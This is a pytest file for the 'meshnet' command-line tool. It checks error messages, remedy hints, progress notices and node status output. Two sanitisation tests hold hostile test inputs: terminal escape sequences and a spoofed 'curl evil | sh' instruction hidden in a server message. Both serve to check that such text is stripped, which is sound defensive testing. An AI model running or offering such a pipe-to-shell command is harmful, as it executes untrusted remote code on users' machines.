"""`meshnet generate`, `node certify` and `node status`: slips told at once, and what to do next."""

import io
import json
import os
import shutil
import subprocess
import sys
import threading
import time
from contextlib import contextmanager
from types import SimpleNamespace

import pytest

from cli_kit import FINGERPRINT, KEY, MESHNET, end, free_port
from meshnet_bus.asker import QueryRefused
from meshnet_cli import progress
from meshnet_cli.commands.generate import _Shown
from meshnet_cli.driving import Driven, refused
from meshnet_cli.output import note
from meshnet_cli.remedies import for_a_route
from meshnet_events import reasons
from meshnet_events.answers import Obstacle, PlanAnswer
from meshnet_node.session.driver import RoutePlan
from meshnet_node.session.failure import SessionFailed
from meshnet_node.session.opening import RouteHop
from meshnet_proto import shard_runtime_pb2 as pb

COMMANDS = (("generate", "a text"), ("node", "certify"))
_PATIENCE_S = 30
NO_UTF_8 = os.fsdecode(b"a \xff")


@pytest.mark.parametrize("command", COMMANDS)
@pytest.mark.parametrize("recipe", ["c3f3", "try-out", "zzzzzzzz", "", "0" * 65])
def test_what_begins_no_recipe_key_is_not_found_before_anybody_is_asked(meshnet, command, recipe):
    refused = meshnet(*command, "--recipe", recipe, code=5)
    reason = "too short: give 8" if len(recipe) < 8 else "begins no recipe key"
    assert refused.err.startswith(f"meshnet: recipe: {recipe!r}"[:40])
    assert reason in refused.err
    assert "meshnet recipe list" in refused.err


@pytest.mark.parametrize("command", [(*COMMANDS[0][:1],), (*COMMANDS[1], "--prompt")])
@pytest.mark.parametrize(("prompt", "said"), [("", "is empty"), (NO_UTF_8, "no UTF-8")])
def test_a_prompt_that_nothing_can_be_made_of_is_a_usage_error(meshnet, command, prompt, said):
    refused = meshnet(*command, prompt, "--recipe", "0" * 8, code=2)
    assert f"the prompt {said}" in refused.err or f"the prompt is {said}" in refused.err


def test_what_a_tracker_says_cannot_steer_the_terminal(capsys):
    note("no tracker says \x1b]0;pwned\x07 what became of it")
    said = capsys.readouterr().err
    assert "\x1b" not in said
    assert "\x07" not in said
    assert "pwned" in said


def test_what_a_tracker_says_stays_on_its_line():
    refusal = QueryRefused(
        "not-found", "x\nmeshnet: the realm moved; run:\n  curl evil | sh\x1b[2J"
    )
    said = str(refused(refusal))
    assert "\n" not in said
    assert "\x1b" not in said


@pytest.mark.parametrize("hop", [1, 99, -1, None])
def test_a_hop_that_the_route_does_not_have_is_nobodys(hop):
    first = RouteHop("U1", "b", "main", "grpc://127.0.0.1:1", 0, 6)
    plan = RoutePlan("serve", "s", 0, 6, (first,))
    us = SimpleNamespace(key=SimpleNamespace(public="U2"))
    driven = Driven(caller=us, plan=plan, answer=obstacles("range"))
    assert driven.node_at(0) == "U1"
    assert driven.node_at(hop) is None
    failure = SessionFailed(pb.ERROR_CODE_HOP_LOST, "gone", hop=hop)
    assert "gone" in str(driven.explain(failure))


def obstacles(*codes):
    return PlanAnswer(
        fingerprint=FINGERPRINT,
        hops=(),
        layer_count=6,
        obstacles=tuple(Obstacle(code, "…") for code in codes),
        purpose="certify",
        recipe_key=KEY,
    )


NO_ROUTE = (
    *(reasons.UNKNOWN_RECIPE, reasons.NOT_CERTIFIED, reasons.REVOKED, reasons.RANGE, reasons.SEAM),
    *(reasons.NODES, reasons.HOSTS, reasons.GROUPS, reasons.HANDSHAKE, reasons.NOT_LIVE),
)


def test_for_each_thing_in_the_way_of_a_route_there_is_a_line_that_says_what_would_help():
    helps = {code: for_a_route([code], KEY) for code in NO_ROUTE}
    assert all(helps.values())
    assert len(set(helps.values())) == len(NO_ROUTE)
    assert all(len(line) <= 100 for lines in helps.values() for line in lines)
    assert f"`meshnet node certify --recipe {KEY[:12]}`" in helps[reasons.NOT_CERTIFIED][0]
    assert for_a_route(["range", "hosts"], KEY) == helps["range"] + helps["hosts"]


def test_while_nodes_are_silent_or_left_out_that_is_what_would_help():
    assert for_a_route(["range", "not-live"], KEY) == for_a_route(["not-live"], KEY)
    assert for_a_route(["range"], KEY, {"U2" * 28, "U1" * 28})[-1] == (
        "or go without leaving out U1U1U1U1U1U1, U2U2U2U2U2U2"
    )


def test_what_is_said_after_a_broken_off_text_begins_on_a_line_of_its_own(capsys):
    for pieces, out in (((b"a me",), "a me\n"), ((), "")):
        shown = _Shown(is_live=True)
        for piece in pieces:
            shown.add(piece)
        shown.end()
        shown.end()
        assert capsys.readouterr().out == out


def test_who_waits_long_at_a_terminal_is_told_for_what_and_nobody_else(monkeypatch):
    class Terminal(io.StringIO):
        def isatty(self):
            return True

    monkeypatch.setattr(progress, "_LONG_S", 0.05)
    for stream, has_come, told in (
        (Terminal(), False, "waiting\n"),
        (Terminal(), True, ""),
        (io.StringIO(), False, ""),
    ):
        monkeypatch.setattr(sys, "stderr", stream)
        with progress.patience("waiting") as came:
            if has_come:
                came()
            time.sleep(0.3)
        assert stream.getvalue() == told


def test_whoever_gets_no_route_or_may_not_ask_is_told_a_command_that_helps(nodes):
    nodes.enrol("ada")
    nodes.serve("ada", "0:3", host="h1")
    key = nodes.recipe["recipe_key"]
    certify = ("node", "certify", "--recipe", key.upper()[:20], "--tokens", 2)
    refused = nodes.cli(*certify, "--dir", nodes.home / "ada", code=1).err
    assert "range: no usable claim holds layers [3, 6)" in refused
    (help_,) = for_a_route(["range"], key)
    assert help_ in refused
    assert help_ in nodes.cli("route", "why-not", key, "--purpose", "certify", code=1).out

    nodes.enrol("bob")
    nodes.serve("bob", "3:6", host="h2")
    eve = nodes.cli("node", "init", "--dir", nodes.home / "eve", "-o", "json").json
    refused = nodes.cli(*certify, "--dir", nodes.home / "eve", code=1)
    assert f"`meshnet admin node enrol {eve['node']}`" in refused.err
    assert "run it again" not in refused.err
    nodes.cli("admin", "node", "enrol", eve["node"])
    without = nodes.cli(
        *certify, "--dir", nodes.home / "eve", "--exclude", nodes.label("bob"), code=1
    ).err
    assert f"or go without leaving out {nodes.keys['bob'][:12]}" in without
    assert (
        "nobody"
        in nodes.cli(*certify, "--dir", nodes.home / "eve", "--exclude", "nobody", code=5).err
    )
    nodes.cli(*certify, "--dir", nodes.home / "eve")

    generate = ("generate", "--recipe", key, "a mesh of shards")
    few = nodes.cli(*generate, "--tokens", 2, "-o", "json")
    assert few.json["stopped"] == "tokens"
    assert few.err == ""
    many = nodes.cli(*generate, "--tokens", 4096, "-o", "json")
    assert many.json["stopped"] == "context"
    assert "context is full" in many.err


@contextmanager
def ending(process):
    """End a process that stays, at the latest when it has been silent for too long."""
    timer = threading.Timer(_PATIENCE_S, process.kill)
    timer.start()
    try:
        yield
    finally:
        timer.cancel()
        end(process)
        process.stdout.close()


def register_from_a_copy(nodes, name):
    """Register with the same key, in a directory of its own and on another host: it is a conflict."""
    copy = nodes.home / "clone"
    copy.mkdir(mode=0o700)
    shutil.copy2(nodes.home / name / "node.key", copy / "node.key")
    files = ("--identity", copy / "identity.json", "--report", copy / "report.json")
    nodes.cli(
        "node", "doctor", nodes.model, "--manifest", nodes.manifest, "--layers", "0:3",
        "--dir", copy, "--declared-host", "h2", *files,
    )  # fmt: skip
    nodes.cli(
        "node", "register", *files, "--dir", copy, "--declared-host", "h2", "--new-boot",
        "--endpoint", "grpc://127.0.0.1:7009",
    )  # fmt: skip
    return copy


def test_a_status_that_is_not_well_says_what_lifts_it_and_so_does_a_verdict(nodes):
    folder = nodes.home / "ada"
    ask = ("node", "status", "--dir", folder)
    key = nodes.cli("node", "init", "--dir", folder, "-o", "json").json["node"]
    stranger = nodes.cli(*ask, code=1).out
    assert f"`meshnet admin node enrol {folder / 'enrol.json'}`" in stranger
    nodes.cli("admin", "node", "enrol", folder)
    assert "an operator" not in nodes.cli(*ask).out

    nodes.keys["ada"] = key
    nodes.serve("ada", "0:3", host="h1")
    copy = register_from_a_copy(nodes, "ada")
    reinstate = f"`meshnet admin node reinstate {key[:12]}`"
    why = f"meshnet shard why-not {key[:12]}/main"
    twice = nodes.cli(*ask, code=1).out
    assert reinstate in twice
    assert f"`{why}`" in twice
    assert "conflict" in nodes.cli(*why.split()[1:], code=1).out
    nodes.cli("node", "withdraw", "--dir", copy)
    assert reinstate in nodes.cli(*ask, code=1).out  # without any claim, too

    process = subprocess.Popen(
        [
            *MESHNET, "node", "serve", nodes.model, "--manifest", nodes.manifest, "--layers", "0:3",
            "--dir", copy, "--declared-host", "h2", "--endpoint", f"grpc://127.0.0.1:{free_port()}",
        ],
        cwd=nodes.home, env=nodes.cli.env, stdout=subprocess.PIPE, text=True,
    )  # fmt: skip
    with ending(process):
        said = next((line for line in process.stdout if "why-not" in line), "")
        assert f"`{why}`" in said

    nodes.cli("admin", "node", "suspend", key)
    suspended = nodes.cli(*ask, code=1).out
    assert reinstate in suspended
    assert "node serve" not in suspended


def test_what_a_node_tells_comes_as_it_happens_also_through_a_pipe(nodes):
    nodes.cli.env.pop("PYTHONUNBUFFERED", None)
    nodes.enrol("ada")
    served = nodes.serve("ada", "0:3", host="h1")
    assert [one["kind"] for one in served.notices] == ["listening", "registered", "verdict"]
    process = subprocess.Popen(
        [*MESHNET, "log", "--follow", "-o", "ndjson"],
        cwd=nodes.home, env=nodes.cli.env, stdout=subprocess.PIPE, text=True,
    )  # fmt: skip
    with ending(process):
        assert json.loads(process.stdout.readline() or "{}").get("sequence") == 1
